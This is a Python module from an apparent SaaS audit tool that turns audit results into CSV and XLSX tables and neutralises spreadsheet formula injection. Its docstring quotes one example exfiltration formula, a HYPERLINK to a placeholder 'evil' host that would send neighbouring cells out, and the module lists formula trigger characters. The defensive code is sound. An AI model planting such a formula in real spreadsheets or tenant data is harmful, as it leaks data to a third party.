"""The Result as flat tables, shared by the CSV files and the XLSX sheets.

One :class:`Table` per subject (inventory, findings, people per platform, …), each a
header and rows of plain values: ``str``, ``int``, ``float`` or ``None``. Lists are
joined with ``"; "``, booleans become ``yes``/``no`` (``None``: empty), so a consultant's
pivot table and a pipeline's ``csv.DictReader`` see the same columns.

Values are *raw* here. Spreadsheets are a medium with its own injection risk — a cell
that starts with ``=``, ``+``, ``-`` or ``@`` is a formula to Excel, LibreOffice and
Google Sheets, and ``=HYPERLINK("http://evil/?"&A1)`` in an OAuth app name would send
the neighbouring cells to whoever published the app — so :func:`spreadsheet_text` makes
a tenant string safe for a cell and both writers use it on every string.
"""

from __future__ import annotations

from collections.abc import Mapping, Sequence
from dataclasses import dataclass, field
from typing import Any

from sprawl_audit.report.formats.labels import capability_label, instant, yes_no
from sprawl_audit.report.formats.markup import xml_safe
from sprawl_audit.report.formats.typed_view import licences_of
from sprawl_audit.report.formats.view import (
    control_id,
    control_rules,
    count,
    frameworks,
    items,
    notices,
    organisation_name,
    people_platform_pairs,
    platform_names,
    ratio,
    references_text,
    section,
    severity_counts,
    sorted_findings,
    strings,
)

Value = str | int | float | None

#: Excel's limit on the characters in one cell.
SPREADSHEET_CELL_LIMIT = 32767
#: Characters that make a spreadsheet read a cell as a formula (or, for TAB and CR, that
#: some importers strip before looking for one) — OWASP "CSV Injection" — plus their
#: full-width forms, which some spreadsheet software folds to ASCII.
FORMULA_TRIGGERS = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
LIST_SEPARATOR = "; "


def spreadsheet_text(value: Any, *, quote: bool = True) -> str:
    """A tenant string as one spreadsheet cell: one line, no controls, never a formula.

    Control, bidi and invisible characters go (:func:`~.markup.xml_safe`). With ``quote``
    (CSV, where a cell has no type) a value that would start a formula gets a leading
    ``'``, which spreadsheets show as text. XLSX cells carry a type, so the XLSX writer
    passes ``quote=False``, stores the text as a string and marks it quote-prefixed
    instead (see :func:`starts_formula`).
    """
    # xml_safe: sanitize.cell() minus the two characters XLSX (XML) cannot hold at all
    text = xml_safe(value, SPREADSHEET_CELL_LIMIT - 1)
    if quote and starts_formula(text):
        return "'" + text
    return text


def starts_formula(text: str) -> bool:
    """Whether ``text`` would be read as a formula if typed into a cell as it is."""
    return bool(text) and (text[0] in FORMULA_TRIGGERS or text.lstrip()[:1] in FORMULA_TRIGGERS)


@dataclass(frozen=True)
class Table:
    """One table: ``part`` names the CSV file, ``title`` the sheet. ``personal``: a row
    per person or per owned phone number (its CSV file is written owner-only)."""

    part: str
    title: str
    columns: tuple[str, ...]
    rows: list[tuple[Value, ...]] = field(default_factory=list)
    #: Columns holding a 0..1 share (shown as a percentage in XLSX).
    ratio_columns: frozenset[str] = frozenset()
    personal: bool = False


def _join(values: Any) -> str:
    return LIST_SEPARATOR.join(strings(values))


def _flag(value: Any) -> str | None:
    return None if value is None else yes_no(value)


def summary_rows(result: Mapping[str, Any]) -> list[tuple[str, Value]]:
    """Headline numbers as (label, value) pairs, most consequential first."""
    summary = section(result, "summary")
    run = section(result, "run")
    tool = section(result, "tool")
    rules = section(summary, "rules")
    counts = severity_counts(result)
    # An incomplete audit and a baseline's hidden findings lead the table: a spreadsheet
    # reader sees them before any number they qualify.
    rows: list[tuple[str, Value]] = [
        ("Audit status" if kind == "incomplete" else "Baseline", text)
        for kind, text in notices(result)]
    rows += [
        ("Organisation", organisation_name(result)),
        ("Evidence as of", instant(run.get("as_of"))),
        ("Run", run.get("mode") if isinstance(run.get("mode"), str) else None),
        ("Platforms in use", count(summary.get("platforms"))),
        ("Corporate platforms", count(summary.get("corporate_platforms"))),
        ("Consumer platforms", count(summary.get("consumer_platforms"))),
        ("Unknown platforms", count(summary.get("unknown_platforms"))),
        ("People", count(summary.get("people"))),
        ("Departments", count(summary.get("departments"))),
        ("People using consumer apps", count(summary.get("consumer_app_users"))),
        ("Capabilities on more than one platform",
         ", ".join(capability_label(c) for c in strings(summary.get("capabilities_with_overlap")))),
        ("Integrations", count(summary.get("integrations"))),
        ("External parties", count(summary.get("external_parties"))),
        ("Phone numbers", count(summary.get("phone_numbers"))),
        ("Mail domains", count(summary.get("mail_domains"))),
    ]
    rows += [(f"Findings: {sev}", n) for sev, n in counts.items()]
    rows += [
        ("Rules failed", count(rules.get("failed"))),
        ("Rules passed", count(rules.get("passed"))),
        ("Rules not assessed", count(rules.get("not_assessed"))),
        ("Coverage gaps", count(summary.get("coverage_gaps"))),
        ("Run id", run.get("id") if isinstance(run.get("id"), str) else None),
        ("Tool", f"{tool.get('name') or 'sprawl-audit'} {tool.get('version') or ''}".strip()),
    ]
    return rows


def build_tables(result: Mapping[str, Any]) -> list[Table]:
    """Every table, in the order a reader wants them (summary first)."""
    names = platform_names(result)
    tables = [
        Table("summary", "Summary", ("Item", "Value"), list(summary_rows(result))),
        _inventory(result),
        _findings(result),
        _rules(result),
        Table("people-platforms", "People-Platforms",
              ("Person", "Department", "Platform ID", "Platform"),
              [(person, dept, pid, names.get(pid, pid))
               for person, dept, pid in people_platform_pairs(result)], personal=True),
        _capabilities(result),
        _departments(result),
        _phone_numbers(result),
        _integrations(result),
        _external_parties(result, names),
        _mail_domains(result),
        _licences(result),
        _coverage(result),
    ]
    compliance = _compliance(result)
    if compliance is not None:
        tables.insert(4, compliance)
    return tables


def _inventory(result: Mapping[str, Any]) -> Table:
    rows: list[tuple[Value, ...]] = []
    for p in items(result, "platforms"):
        head_count = p.get("head_count")
        rows.append((
            p.get("id"), p.get("name"), p.get("vendor"), p.get("catalog"),
            p.get("classification"), _flag(p.get("sanctioned")),
            LIST_SEPARATOR.join(capability_label(c) for c in strings(p.get("capabilities"))),
            count(p.get("active_users")), count(p.get("users")),
            count(head_count) if head_count is not None else None,
            len(strings(p.get("departments"))), _join(p.get("departments")),
            _flag(p.get("identity_linked")), _join(p.get("external_targets")),
            _join(p.get("data_categories")), _join(p.get("tags")), _join(p.get("sources")),
        ))
    return Table("inventory", "Inventory", (
        "Platform ID", "Platform", "Vendor", "Catalogue entry", "Classification",
        "Sanctioned", "Capabilities", "Active users", "Users", "Head count (stated)",
        "Department count", "Departments", "Identity linked", "External targets",
        "Data categories", "Tags", "Seen by"), rows)


def _findings(result: Mapping[str, Any]) -> Table:
    rows: list[tuple[Value, ...]] = []
    for f in sorted_findings(result):
        subject = section(f, "subject")
        rows.append((
            f.get("severity"), f.get("rule_id"), f.get("title"), subject.get("kind"),
            subject.get("id"), subject.get("name"), f.get("message"), f.get("remediation"),
            f.get("rationale"), LIST_SEPARATOR.join(references_text(f.get("references"))),
            _join(f.get("evidence")), _flag(bool(f.get("suppressed"))), f.get("fingerprint"),
        ))
    return Table("findings", "Findings", (
        "Severity", "Rule", "Title", "Subject kind", "Subject ID", "Subject", "Finding",
        "Remediation", "Rationale", "References", "Evidence", "Suppressed", "Fingerprint"),
        rows)


def _rules(result: Mapping[str, Any]) -> Table:
    rows: list[tuple[Value, ...]] = [
        (r.get("id"), r.get("title"), r.get("severity"), r.get("pack"), r.get("status"),
         count(r.get("findings")), r.get("reason"), _join(r.get("requires")),
         LIST_SEPARATOR.join(references_text(r.get("references"))))
        for r in items(result, "rules")
    ]
    return Table("rules", "Rules", ("Rule", "Title", "Severity", "Pack", "Status", "Findings",
                                    "Why not assessed", "Evidence required", "References"), rows)


def _compliance(result: Mapping[str, Any]) -> Table | None:
    fws = frameworks(result)
    if not fws:
        return None
    rows: list[tuple[Value, ...]] = []
    for fw in fws:
        for control in items(fw, "controls"):
            findings = control.get("findings")
            rows.append((fw.get("id"), fw.get("name"), fw.get("version"), control_id(control),
                         control.get("title"), control.get("status"),
                         count(findings) if findings is not None else None,
                         LIST_SEPARATOR.join(control_rules(control)),
                         _join(control.get("reasons"))))
    return Table("compliance", "Compliance", ("Framework", "Framework name", "Version",
                                              "Control", "Title", "Status", "Findings",
                                              "Rules", "Reasons"), rows)


def _capabilities(result: Mapping[str, Any]) -> Table:
    rows: list[tuple[Value, ...]] = []
    for cap in items(result, "capabilities"):
        for p in items(cap, "platforms"):
            rows.append((capability_label(str(cap.get("name", ""))), p.get("id"), p.get("name"),
                         count(p.get("active_users")), count(cap.get("overlapping_users"))))
    return Table("capabilities", "Capabilities", (
        "Capability", "Platform ID", "Platform", "Active users",
        "People on 2+ platforms for this capability"), rows)


def _departments(result: Mapping[str, Any]) -> Table:
    rows: list[tuple[Value, ...]] = [
        (d.get("name"), count(d.get("people")), count(d.get("consumer_app_users")),
         round(ratio(d.get("consumer_exposure")), 4), _join(d.get("consumer_apps")))
        for d in items(result, "departments")
    ]
    return Table("departments", "Departments", (
        "Department", "People", "People on consumer apps", "Share on consumer apps",
        "Consumer apps"), rows, ratio_columns=frozenset({"Share on consumer apps"}))


def _phone_numbers(result: Mapping[str, Any]) -> Table:
    rows: list[tuple[Value, ...]] = [
        (n.get("number"), n.get("owner"), _flag(n.get("has_owner")),
         _flag(n.get("owner_enabled")), n.get("provider"), n.get("system"), n.get("kind"))
        for n in items(result, "phone_numbers")
    ]
    return Table("phone-numbers", "Phone numbers", (
        "Number", "Owner", "Has owner", "Owner enabled", "Provider", "System", "Kind"), rows,
        personal=True)


def _integrations(result: Mapping[str, Any]) -> Table:
    rows: list[tuple[Value, ...]] = [
        (i.get("id"), i.get("name"), i.get("app"), i.get("host"), i.get("kind"),
         _join(i.get("scopes")), i.get("consent_type"), count(i.get("user_count")),
         _flag(i.get("all_users")), i.get("publisher"), _flag(i.get("verified_publisher")),
         _flag(i.get("sanctioned")),
         _flag(i.get("ai")), _flag(i.get("mail_access")), _flag(i.get("meeting_access")))
        for i in items(result, "integrations")
    ]
    return Table("integrations", "Integrations", (
        "Integration ID", "Name", "App (platform)", "Host platform", "Kind", "Scopes",
        "Consent", "Users", "All users", "Publisher", "Verified publisher", "Sanctioned", "AI",
        "Mail access", "Meeting access"), rows)


def _external_parties(result: Mapping[str, Any], names: Mapping[str, str]) -> Table:
    rows: list[tuple[Value, ...]] = [
        (e.get("target"), _join(e.get("link_kinds")),
         LIST_SEPARATOR.join(names.get(p, p) for p in strings(e.get("platforms"))),
         count(e.get("people")), _flag(e.get("consumer_domain")))
        for e in items(result, "external_parties")
    ]
    return Table("external-parties", "External parties", (
        "External party", "Links", "Platforms", "People", "Consumer domain"), rows)


def _licences(result: Mapping[str, Any]) -> Table:
    """Licences per platform (schema 1.4), from the typed view's rows; an empty cell is a
    count the source did not give ("not assessed"), never zero."""
    rows: list[tuple[Value, ...]] = [
        (lic.platform, lic.name, lic.kind, lic.licence, lic.sku or None, lic.product or None,
         lic.enabled, lic.consumed, lic.unassigned, lic.suspended, lic.warning, lic.users,
         lic.held_by_disabled, lic.inactive, lic.detail or None)
        for lic in licences_of(result)
    ]
    return Table("licences", "Licences", (
        "Platform ID", "Platform", "Row", "Licences", "SKU", "Product", "Seats bought",
        "Seats assigned", "Seats unassigned", "Suspended", "Warning", "Users",
        "Held by disabled accounts", "Held with no activity", "Detail"), rows)


def _mail_domains(result: Mapping[str, Any]) -> Table:
    rows: list[tuple[Value, ...]] = []
    for m in items(result, "mail_domains"):
        pct, lookups = m.get("dmarc_pct"), m.get("spf_lookups")
        rows.append((
            m.get("domain"), _join(m.get("mail_providers")), m.get("spf_all"),
            _join(m.get("spf_senders")), count(lookups) if lookups is not None else None,
            m.get("dmarc_policy"), count(pct) if pct is not None else None,
            _join(m.get("dmarc_rua")), _join(m.get("dkim_ok")), _join(m.get("dkim_missing")),
            m.get("mta_sts_mode"), _flag(m.get("tls_rpt")),
        ))
    return Table("mail-domains", "Mail domains", (
        "Domain", "Mail providers", "SPF all", "SPF senders", "SPF lookups", "DMARC policy",
        "DMARC pct", "DMARC reports to", "DKIM selectors OK", "DKIM selectors missing",
        "MTA-STS mode", "TLS-RPT"), rows)


def _coverage(result: Mapping[str, Any]) -> Table:
    rows: list[tuple[Value, ...]] = [
        (c.get("connector"), c.get("topic"), c.get("status"),
         c.get("items") if isinstance(c.get("items"), int) else None, c.get("detail"))
        for c in items(result, "coverage")
    ]
    return Table("coverage", "Coverage", ("Connector", "Evidence topic", "Status", "Items",
                                          "Detail"), rows)


def plain_value(value: Any, *, quote: bool = True) -> Value:
    """A table value as a writer should see it: numbers kept, everything else safe text."""
    if value is None:
        return None
    if isinstance(value, bool):
        return yes_no(value)
    if isinstance(value, int | float):
        return value
    return spreadsheet_text(value, quote=quote)


def plain_row(row: Sequence[Any], *, quote: bool = True) -> list[Value]:
    return [plain_value(v, quote=quote) for v in row]
